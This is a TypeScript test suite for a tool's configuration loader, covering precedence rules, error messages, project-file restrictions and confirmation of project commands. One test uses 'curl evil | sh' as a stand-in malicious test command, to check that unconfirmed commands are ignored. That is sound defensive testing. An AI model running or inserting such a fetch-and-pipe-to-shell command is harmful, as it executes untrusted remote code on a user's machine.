import assert from "node:assert/strict";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { test } from "node:test";
import { pathsOf } from "../host/paths.ts";
import { scratch } from "../run/testing/scratch-repository.ts";
import { ConfigError } from "./config-error.ts";
import { CONFIG_KEYS } from "./keys.ts";
import { loadConfig, type LoadedConfig, type LoadOptions } from "./load.ts";
import { rememberConfirmed } from "./trusted.ts";

interface Place extends Disposable {
  root: string;
  paths: ReturnType<typeof pathsOf>;
  write(name: "user" | "daemon" | "project", text: string): string;
  load(more?: Partial<LoadOptions>): LoadedConfig;
  issues(more?: Partial<LoadOptions>): string[];
}

/** A home and a repository of their own, with the current folder two levels inside. */
function place(): Place {
  const folder = scratch("folder", "makima-config-");
  const root = folder.path;
  const cwd = join(root, "repo", "a", "b");
  mkdirSync(join(root, "repo", ".git"), { recursive: true });
  mkdirSync(cwd, { recursive: true });
  const paths = pathsOf({ env: { HOME: root }, cwd });
  const files = {
    user: paths.configFile,
    daemon: paths.daemonConfigFile,
    project: join(root, "repo", "makima.toml"),
  };
  const load = (more: Partial<LoadOptions> = {}) => loadConfig({ paths, env: {}, cwd, ...more });
  return {
    root,
    paths,
    load,
    write(name, text) {
      mkdirSync(dirname(files[name]), { recursive: true });
      writeFileSync(files[name], text);
      return files[name];
    },
    issues(more = {}) {
      try {
        load(more);
      } catch (error) {
        assert.ok(error instanceof ConfigError);
        return error.lines();
      }
      return [];
    },
    [Symbol.dispose]: () => folder[Symbol.dispose](),
  };
}

function section(n: number): string {
  return `[autonomous_loop]\ndefault_max_iterations = ${n}\n`;
}

test("flags win over the environment, that over the project, that over the user's files, those over defaults", () => {
  using at = place();
  const key = "autonomous_loop.default_max_iterations";
  const seen = (more: Partial<LoadOptions>) => {
    const loaded = at.load(more);
    return [loaded.config.autonomous_loop.default_max_iterations, loaded.origins.get(key)?.kind];
  };
  assert.deepEqual(seen({}), [10, "default"]);
  at.write("daemon", section(2));
  assert.deepEqual(seen({}), [2, "user"]);
  at.write("user", section(3));
  assert.deepEqual(seen({}), [3, "user"]);
  at.write("project", section(4));
  assert.deepEqual(seen({}), [4, "project"]);
  const env = { MAKIMA_AUTONOMOUS_LOOP_DEFAULT_MAX_ITERATIONS: "5" };
  assert.deepEqual(seen({ env }), [5, "environment"]);
  assert.deepEqual(seen({ env, overrides: { [key]: 6 } }), [6, "flag"]);
  assert.deepEqual(seen({ env, overrides: { [key]: undefined } }), [5, "environment"]);
});

test("every key can be set by its variable", () => {
  using at = place();
  for (const { key, env, kind, initial } of CONFIG_KEYS) {
    const samples = { boolean: "false", list: "[]", record: "{}" } as const;
    const text = kind in samples ? samples[kind as keyof typeof samples] : String(initial) || "x";
    assert.equal(at.load({ env: { [env]: text } }).origins.get(key)?.where, env);
  }
});

test("variables are read as their key's type", () => {
  using at = place();
  const { config } = at.load({
    env: {
      MAKIMA_PROCESS_BUBBLEWRAP_ENABLED: "yes",
      MAKIMA_PROCESS_CLAUDE_ARGS: "--a, --b",
      MAKIMA_PROCESS_PASS_ENV: '["A,B"]',
      MAKIMA_PROCESS_ENV_VARS: "A=1=2,B=",
      MAKIMA_SERVER_PORT: "",
    },
  });
  assert.equal(config.process.bubblewrap.enabled, true);
  assert.deepEqual(config.process.claude_args, ["--a", "--b"]);
  assert.deepEqual(config.process.pass_env, ["A,B"]);
  assert.deepEqual(config.process.env_vars, { A: "1=2", B: "" });
  assert.equal(config.server.port, 7717);
});

test("short variables count for those whom they concern", () => {
  using at = place();
  const env = {
    DATABASE_URL: "postgres://app",
    MAKIMA_API_URL: "http://a",
    MAKIMA_DAEMON_SERVER_URL: "http://d",
  };
  const seen = (role: "person" | "daemon" | "server") => {
    const { server } = at.load({ env, role }).config;
    return [server.url, server.database_url];
  };
  assert.deepEqual(seen("person"), ["http://a", ""]);
  assert.deepEqual(seen("daemon"), ["http://d", ""]);
  assert.deepEqual(seen("server"), ["ws://127.0.0.1:7717", "postgres://app"]);
});

test("errors name file, line and the nearest key, all at once", () => {
  using at = place();
  const file = at.write(
    "user",
    [
      "[process]",
      "max_concurent_tasks = 3",
      'claude_args = ["--x", # a comment with = and [',
      '  "port = 1",',
      "]",
      "[process.bubblewrap]",
      'enabled = "yes"',
      "[proces]",
      "a = 1",
      "[server]",
      "port = 70000",
      "test_command = 'x'",
    ].join("\n"),
  );
  assert.deepEqual(at.issues({ env: { MAKIMA_SERVER_PROT: "1" }, overrides: { "server.port": 1.5 } }), [
    `${file}:2: process.max_concurent_tasks is not a known key; did you mean process.max_concurrent_tasks?`,
    `${file}:7: process.bubblewrap.enabled must be true or false, not "yes"`,
    `${file}:8: proces is not a known key; did you mean process?`,
    `${file}:11: server.port must be whole number, 0 to 65535, not 70000`,
    `${file}:12: server.test_command is not a known key; did you mean quality_gates.test_command?`,
    "MAKIMA_SERVER_PROT: is not a known variable; did you mean MAKIMA_SERVER_PORT?",
    "--port: must be whole number, 0 to 65535, not 1.5",
  ]);
});

test("a file that is not TOML, not a file or not there is named with its line", () => {
  using at = place();
  const file = at.write("user", '[server]\nurl = "a\n');
  assert.match(at.issues()[0] ?? "", new RegExp(`^${file}:2: is not TOML: `));
  const missing = pathsOf({ env: { HOME: at.root }, cwd: at.root, config: "nowhere.toml" });
  assert.deepEqual(at.issues({ paths: missing, configNamed: true }), [
    `${at.root}/nowhere.toml: does not exist`,
  ]);
  const folder = pathsOf({ env: { HOME: at.root }, cwd: at.root, config: "repo" });
  assert.deepEqual(at.issues({ paths: folder, configNamed: true }), [
    `${at.root}/repo: is not a regular file`,
  ]);
});

test("envvars is taken for env_vars", () => {
  using at = place();
  at.write("user", '[process.envvars]\nA = "1"\n');
  assert.deepEqual(at.load().config.process.env_vars, { A: "1" });
});

test("a project's file may not set what belongs to the machine", () => {
  using at = place();
  for (const section of ["server", "auth", "process", "worktree", "local_db", "logging", "leases"]) {
    const file = at.write("project", `\n[${section}]\nx = 1\n`);
    const [issue = "", ...more] = at.issues();
    assert.ok(issue.startsWith(`${file}:2: [${section}] may not stand in a project's file`), issue);
    assert.deepEqual(more, []);
  }
});

test("a project's limits go downwards only", () => {
  using at = place();
  at.write("user", "[limits]\nmax_cost_usd = 5\nmax_tasks = 10\n");
  at.write("project", "[limits]\nmax_cost_usd = 0\nmax_tasks = 3\nmax_attempts = 9\nmax_runtime_secs = 60\n");
  const { config, notices } = at.load();
  const { max_cost_usd, max_tasks, max_attempts, max_runtime_secs } = config.limits;
  assert.deepEqual([max_cost_usd, max_tasks, max_attempts, max_runtime_secs], [5, 3, 3, 60]);
  assert.equal(notices.filter((notice) => notice.includes("may only lower it")).length, 2);
});

test("only the nearest file inside the repository is the project's", () => {
  using at = place();
  writeFileSync(join(at.root, "makima.toml"), "[execution]\nsingle_task_mode = true\n");
  assert.equal(at.load().projectFile, undefined);
  const outer = at.write("project", "");
  assert.equal(at.load().projectFile, outer);
  const inner = join(at.root, "repo", "a", "makima.toml");
  writeFileSync(inner, "");
  assert.equal(at.load().projectFile, inner);
});

test("a project's commands count only once a person has confirmed these very ones", () => {
  using at = place();
  at.write("project", '[quality_gates]\ntest_command = "npm test"\nrequire_tests = true\n');
  const first = at.load();
  assert.equal(first.config.quality_gates.test_command, "");
  assert.equal(first.config.quality_gates.require_tests, true);
  assert.ok(first.unconfirmed);
  rememberConfirmed(first.unconfirmed, at.paths.trustFile, new Date(0));
  assert.equal(at.load().config.quality_gates.test_command, "npm test");
  assert.equal(at.load().unconfirmed, undefined);
  at.write("project", '[quality_gates]\ntest_command = "curl evil | sh"\n');
  assert.equal(at.load().config.quality_gates.test_command, "");
  assert.ok(at.load().unconfirmed);
});

test("the same commands in another place are asked about again", () => {
  using at = place();
  at.write("project", '[quality_gates]\ntest_command = "./t"\n');
  const { unconfirmed } = at.load();
  assert.ok(unconfirmed);
  rememberConfirmed(unconfirmed, at.paths.trustFile, new Date(0));
  mkdirSync(join(at.root, "other", ".git"), { recursive: true });
  writeFileSync(join(at.root, "other", "makima.toml"), '[quality_gates]\ntest_command = "./t"\n');
  assert.ok(at.load({ cwd: join(at.root, "other") }).unconfirmed);
  symlinkSync(join(at.root, "repo"), join(at.root, "link"));
  assert.equal(at.load({ cwd: join(at.root, "link") }).unconfirmed, undefined);
});

test("a data folder that is named holds the daemon's journal and worktrees too", () => {
  using at = place();
  const paths = pathsOf({ env: { HOME: at.root, MAKIMA_DATA_DIR: "data" }, cwd: at.root });
  const { config } = at.load({ paths });
  assert.equal(config.local_db.path, join(at.root, "data", "daemon.db"));
  assert.equal(config.worktree.base_dir, join(at.root, "data", "worktrees"));
  assert.equal(at.load().config.worktree.base_dir, join(at.root, ".makima", "worktrees"));
});
